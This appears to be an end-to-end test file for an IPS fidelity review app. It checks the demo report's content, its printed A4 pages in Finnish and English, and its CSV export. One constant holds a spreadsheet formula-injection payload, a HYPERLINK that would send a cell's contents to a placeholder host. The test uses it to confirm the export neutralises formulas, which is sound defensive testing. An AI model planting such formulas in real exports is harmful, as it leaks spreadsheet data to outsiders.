// Issue 7, the fidelity report and the CSV export: the demo's 2022 review (91 points, 83 in 2021)
// as a printable report — total, band, the 74-point line, 25 items, recommendations by priority,
// the change since 2021 — printed to an A4 PDF that is turned into PNG pages (pdftoppm) and
// checked for a clean print (every page numbered "sivu n / N" in the report's language, no page
// ending with a heading, item codes S1 … V14 the same in every language); then a note starting with "=" is written and the CSV download is
// checked for the header, 25 rows and the neutralised note. axe and screenshots at both tablet
// sizes, the second in English with the report switched to Finnish.
import assert from 'node:assert/strict';
import { copyFile, readFile } from 'node:fs/promises';
import path from 'node:path';
import Papa from 'papaparse';
import { test, newAppPage, assertClean, checkA11y, screenshot, ROOT, SCREENSHOT_DIR } from './harness.mjs';
import { openDemoReview, printToPng, reopenReview } from './flows.mjs';
import { demoDay } from './demo-dates.mjs';

const OUT_DIR = path.join(ROOT, 'test-results', 'report');
const OUT_DIR_EN = path.join(ROOT, 'test-results', 'report-en');
const FORMULA_NOTE = '=HYPERLINK("http://x?d="&A1)';

/** The report's figures, read from the page as a reader sees them. */
async function checkDemoReport(page, t) {
  await page.getByRole('heading', { level: 1, name: t.title }).waitFor();
  assert.equal((await page.getByTestId('report-total').textContent()).trim(), '91');
  assert.match(await page.getByTestId('report-band').textContent(), t.band);
  assert.match(await page.getByTestId('report-line').textContent(), t.line);
  assert.equal(await page.getByTestId('report-item-row').count(), 25);
  // The item codes are the scale's, the same in every language, so two reports can be read side by side.
  const codes = await page.getByTestId('report-item-row').evaluateAll((rows) => rows.map((row) => row.querySelector('th').textContent));
  assert.deepEqual(codes, SCALE_CODES);
  assert.equal(await page.getByTestId('report-section-row').count(), 3);
  const priorities = await page.getByTestId('report-priority-group').evaluateAll((groups) => groups.map((g) => g.dataset.priority));
  assert.ok(priorities.length > 0, 'the demo has recommendations');
  assert.deepEqual(
    priorities,
    ['high', 'medium', 'low'].filter((p) => priorities.includes(p)),
    'grouped high → medium → low',
  );
  assert.ok((await page.getByTestId('report-recommendation').count()) >= priorities.length);
  assert.match(await page.getByTestId('report-change-total').textContent(), t.change);
  assert.ok((await page.getByTestId('report-changed-item').count()) > 0, 'items that changed since 2021 are listed');
}

const SCALE_CODES = [
  ...Array.from({ length: 3 }, (_, i) => `S${i + 1}`),
  ...Array.from({ length: 8 }, (_, i) => `O${i + 1}`),
  ...Array.from({ length: 14 }, (_, i) => `V${i + 1}`),
];

/**
 * The printed report page by page: every page numbered "<word> n / N" in the report's language,
 * and no page ending with a heading (a heading is kept with what it heads).
 */
async function checkPrintedPages(page, text, pageWord) {
  const headings = await page
    .locator('.report h2, .report h3, .report-section-head th')
    .evaluateAll((elements) => elements.map((element) => element.textContent.replace(/\s+/g, ' ').trim()));
  const printed = text.split('\f').filter((p) => p.trim() !== '');
  const footer = new RegExp(`${pageWord} (\\d+) / (\\d+)`);
  printed.forEach((lines, index) => {
    const content = lines.split('\n').filter((line) => line.trim() !== '');
    const numbered = content.map((line) => line.match(footer)).find(Boolean);
    assert.ok(numbered, `page ${index + 1} has a page number "${pageWord} ${index + 1} / ${printed.length}"`);
    assert.deepEqual([Number(numbered[1]), Number(numbered[2])], [index + 1, printed.length]);
    const last = content
      .filter((line) => !footer.test(line))
      .at(-1)
      .replace(/\s+/g, ' ')
      .trim();
    if (index < printed.length - 1) assert.ok(!headings.includes(last), `page ${index + 1} ends with the heading "${last}"`);
  });
}

const FI = {
  title: 'IPS-laatuarvioinnin raportti',
  band: /Kohtalainen menetelmällinen tarkkuus/,
  line: /17 pistettä yli 74 pisteen rajan\. Alle 74 pisteen palvelu ei ole IPS-työhönvalmennusta\./,
  change: /Kokonaispistemäärä 83 → 91 \(\+8\)\./,
};
const EN = {
  title: 'IPS fidelity review report',
  band: /Fair fidelity/,
  line: /17 points above the 74-point line\. A service below 74 points is not IPS supported employment\./,
  change: /Total score 83 → 91 \(\+8\)\./,
};

test('report in fi at 1024x768: demo 2022 report, A4 PDF → PNG, CSV with a neutralised formula note', async ({ browser, url }) => {
  const page = await newAppPage(browser, url, { viewport: { width: 1024, height: 768 } });
  await openDemoReview(page);
  const reviewId = page.url().match(/\/reviews\/([^/]+)\//)[1];

  await page.getByRole('link', { name: 'Raportti' }).click();
  await page.waitForURL(new RegExp(`/reviews/${reviewId}/report$`));
  await checkDemoReport(page, FI);
  await checkA11y(page, 'report (fi, 1024x768)');
  await screenshot(page, 'report-fi-1024x768', { fullPage: false });

  // Print: the PDF holds the report and nothing of the app around it.
  const { pages, text } = await printToPng(page, 'report-fi', OUT_DIR);
  assert.ok(pages.length >= 3 && pages.length <= 8, `a report of a few A4 pages, got ${pages.length}`);
  await checkPrintedPages(page, text, 'sivu');
  assert.ok(text.includes('Työvalmennuspalvelu Kätevä · IPS-laatuarvioinnin raportti'), 'each page says whose report it is');
  for (const expected of [
    'IPS-laatuarvioinnin raportti',
    'Työvalmennuspalvelu Kätevä',
    '74 pisteen rajan',
    'Kehittämissuositukset',
    '83 → 91 (+8)',
  ]) {
    assert.ok(text.includes(expected), `the PDF says "${expected}"`);
  }
  for (const unwanted of ['Tulosta / tallenna PDF:ksi', 'Lataa pisteet (CSV)', 'Raportin kieli', 'Siirry sisältöön', 'Yleiskatsaus']) {
    assert.ok(!text.includes(unwanted), `the app's own controls are not printed ("${unwanted}")`);
  }
  await copyFile(pages[0], path.join(SCREENSHOT_DIR, 'report-page1-fi.png'));

  // A note that a spreadsheet would run as a formula, written through the scoring screen.
  await page.getByRole('link', { name: 'Takaisin arviointiin' }).click();
  await page.getByTestId('review-status').waitFor();
  await reopenReview(page);
  await page.goto(`/reviews/${reviewId}/items/staffing-1`);
  await page.getByLabel('Havainnot ja perustelut').fill(FORMULA_NOTE);
  await page.locator('.save-status').filter({ hasText: 'Tallennettu' }).waitFor();
  await page.getByRole('link', { name: 'Raportti' }).click();
  await page.locator('[data-testid="report-item-row"][data-item="staffing-1"]').filter({ hasText: FORMULA_NOTE }).waitFor();

  const [download] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Lataa pisteet (CSV)' }).click()]);
  assert.equal(download.suggestedFilename(), `fidelio-tyovalmennuspalvelu-kateva-${demoDay('2022-10-11')}.csv`);
  const bytes = await readFile(await download.path());
  assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 with a byte order mark');
  const csv = bytes.subarray(3).toString('utf8');
  const { data: rows, errors } = Papa.parse(csv, { delimiter: ';', newline: '\r\n', skipEmptyLines: true });
  assert.deepEqual(errors, []);
  // The column set of docs/csv-columns.md: items with their data sources and recommendations, then the subtotals and the total with its band.
  assert.deepEqual(rows[0], ['Tunnus', 'Osa-alue', 'Nro', 'Kohta', 'Yhteisarvio', 'Havainnot', 'Tietolähteet', 'Suositukset']);
  assert.equal(rows.length, 30, 'a header, 25 item rows, 3 section subtotals and the total');
  assert.deepEqual(rows[1].slice(0, 5), ['staffing-1', 'Henkilöstö', '1', 'Asiakasmäärä', '5']);
  assert.equal(rows[1][5], `'${FORMULA_NOTE}`, 'the formula is neutralised with an apostrophe');
  assert.ok(csv.includes(`;"'=HYPERLINK(""http://x?d=""&A1)";`), 'RFC 4180 quoting with doubled quotes');
  assert.ok(rows.slice(1).every((row) => row.length === 8));
  assert.ok(
    rows.slice(1, 26).some((row) => row[7] !== ''),
    'the recommendations are in the file',
  );
  assert.deepEqual(rows.at(-1), ['total', '', '', 'Kokonaispisteet', '91', 'Kohtalainen menetelmällinen tarkkuus', '', '']);
  await assertClean(page);
});

test('report in en at 768x1024: English report, then the same report in Finnish from the language choice', async ({ browser, url }) => {
  const page = await newAppPage(browser, url, { viewport: { width: 768, height: 1024 }, locale: 'en-GB' });
  await openDemoReview(page);
  await page.getByRole('link', { name: 'Report' }).click();
  await checkDemoReport(page, EN);
  await checkA11y(page, 'report (en, 768x1024)');
  await screenshot(page, 'report-en-768x1024', { fullPage: false });

  // The report's language is its own: the app stays English, the report turns Finnish.
  await page.getByLabel('Report language').selectOption('fi');
  await checkDemoReport(page, FI);
  assert.equal(await page.getByTestId('report').getAttribute('lang'), 'fi');
  assert.ok(await page.getByRole('button', { name: 'Print / save as PDF' }).isVisible());
  // Printed in the report's language, whatever the app's: "sivu", not "page".
  const { text } = await printToPng(page, 'report-fi-in-en', OUT_DIR_EN);
  await checkPrintedPages(page, text, 'sivu');
  assert.ok(!/page \d+ \/ \d+/.test(text), 'no English page numbers in the Finnish report');
  await checkA11y(page, 'Finnish report in the English app (768x1024)');
  await screenshot(page, 'report-fi-768x1024', { fullPage: false });
  await assertClean(page);
});
